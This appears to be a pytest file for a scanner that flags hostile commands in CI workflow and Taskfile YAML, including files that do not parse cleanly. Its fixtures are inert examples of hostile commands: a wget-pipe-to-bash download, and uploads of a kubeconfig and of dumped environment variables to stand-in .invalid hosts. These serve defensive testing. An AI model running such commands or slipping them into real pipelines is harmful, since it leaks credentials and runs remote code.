"""A command line with an unquoted ``: `` in a YAML file (``curl -H 'Accept: x' …``) breaks the
file for a strict parser, or turns a listed command into a one-pair mapping. The commands are read
all the same: line by line where the file does not parse, rejoined where a list item became a
mapping. Hosts are TEST-NET or ``.invalid``; payloads are inert; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_a_workflow_step_that_does_not_parse_still_runs_its_download(tmp_path: Path) -> None:
    workflow = (
        "name: docs\n"
        "on: push\n"
        "jobs:\n"
        "  build:\n"
        "    runs-on: ubuntu-latest\n"
        "    steps:\n"
        "      - name: Fetch theme: dark\n"
        "        run: wget -qO- http://203.0.113.40/theme.sh | bash\n"
    )
    assert ("DOWNLOAD_AND_RUN", "ci/docs.yml", 8) in scan_errors(tmp_path, {"ci/docs.yml": workflow})


def test_a_block_step_in_an_unparsed_workflow_sends_what_an_earlier_step_packed(tmp_path: Path) -> None:
    workflow = (
        "jobs:\n"
        "  nightly:\n"
        "    runs-on: ubuntu-latest\n"
        "    steps:\n"
        "      - run: |\n"
        "          mkdir -p out\n"
        "          cp -r ~/.kube out/cluster\n"
        "      - run: curl -s -H 'Content-Type: application/octet-stream' -T out/cluster/config"
        " https://bucket.mirror-sync.invalid/drop\n"
    )
    errors = scan_errors(tmp_path, {"templates/nightly.yaml": workflow})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_a_listed_command_read_as_a_mapping_is_rejoined(tmp_path: Path) -> None:
    tasks = (
        "version: '3'\n"
        "tasks:\n"
        "  snapshot:\n"
        "    cmds:\n"
        "      - printenv > tmp/vars.txt\n"
        "      - curl -s -H 'X-Run: nightly' --data-binary @tmp/vars.txt https://telemetry.build-pulse.invalid/v\n"
    )
    assert ("CREDENTIAL_EXFILTRATION", "Taskfile.yml", 6) in scan_errors(tmp_path, {"Taskfile.yml": tasks})


def test_a_broken_pipeline_of_ordinary_commands_stays_quiet(tmp_path: Path) -> None:
    pipeline = (
        "unit:\n"
        "  script:\n"
        '    - echo "stage: unit"\n'
        "    - python -m pytest -q --junitxml=out/unit.xml\n"
        "    - curl -s -H 'JOB-TOKEN: x' -F file=@out/unit.xml \"$CI_API_V4_URL/projects/$CI_PROJECT_ID/uploads\"\n"
        "  artifacts: [unclosed\n"
    )
    listed = 'steps:\n  - command: ["sh", "-c", "make test"]\n  - command: echo done: {{ .Values.name }}\n'
    assert not scan_errors(tmp_path, {".gitlab-ci.yml": pipeline, "deploy/steps.yaml": listed})
